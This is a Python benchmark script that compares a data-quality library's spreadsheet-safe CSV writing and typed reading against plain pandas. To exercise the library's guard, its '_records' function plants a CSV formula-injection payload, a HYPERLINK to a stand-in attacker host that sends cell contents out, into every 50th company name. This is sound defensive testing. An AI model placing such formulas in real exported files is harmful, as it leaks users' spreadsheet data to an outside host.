"""Benchmark: dq's tables as CSV — spreadsheet-safe writing and typed reading, against plain pandas.

    PYTHONPATH=. nice -n 10 python benchmarks/bench_tables.py --rows 100000

The demo workspace (examples/demo) is ingested and standardised, and its records table (91
columns: canonical, ``*_raw``, flags, scores) is repeated to ``--rows`` rows; every 50th company
name becomes a formula payload so the guard has work. Prints the best of ``--repeat`` wall times
for plain ``DataFrame.to_csv`` / ``pd.read_csv(dtype=str)`` and for dq's ``write_table`` /
``read_table`` (with and without conforming to the canonical columns), and the peak RSS.
"""

from __future__ import annotations

import argparse
import resource
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pandas as pd

from dq.config import load_workspace
from dq.ingest import ingest
from dq.schema import RECORD_COLUMNS
from dq.standardize import standardize_records
from dq.tables import read_table, write_table

DEMO = Path(__file__).resolve().parents[1] / "examples" / "demo"


def _records(rows: int) -> pd.DataFrame:
    records = standardize_records(ingest(load_workspace(DEMO)).records).records
    big = pd.concat([records] * (rows // len(records) + 1), ignore_index=True).iloc[:rows]
    big.loc[::50, "company_name"] = '=HYPERLINK("http://evil.example/?d="&A1,"Rabatt")'
    return big


def _best(fn: Callable[[], object], repeat: int) -> float:
    times = []
    for _ in range(repeat):
        started = time.perf_counter()
        fn()
        times.append(time.perf_counter() - started)
    return min(times)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--repeat", type=int, default=3)
    args = parser.parse_args()
    frame = _records(args.rows)
    out = Path(tempfile.mkdtemp(prefix="dq-bench-tables-"))
    path = write_table(frame, out, "records", "csv")
    size = path.stat().st_size / 1e6
    print(f"rows: {len(frame):,}  columns: {frame.shape[1]}  CSV: {size:.1f} MB")
    steps: list[tuple[str, Callable[[], object]]] = [
        ("pandas to_csv (no guard)", lambda: frame.to_csv(out / "plain.csv", index=False)),
        ("dq write_table csv", lambda: write_table(frame, out, "records", "csv")),
        (
            "pandas read_csv dtype=str",
            lambda: pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[""]),
        ),
        ("dq read_table", lambda: read_table(path)),
        ("dq read_table + conform", lambda: read_table(path, RECORD_COLUMNS)),
    ]
    for name, step in steps:
        print(f"{name:<28} {_best(step, args.repeat):7.2f} s")
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS: {peak:,.0f} MB")


if __name__ == "__main__":
    main()
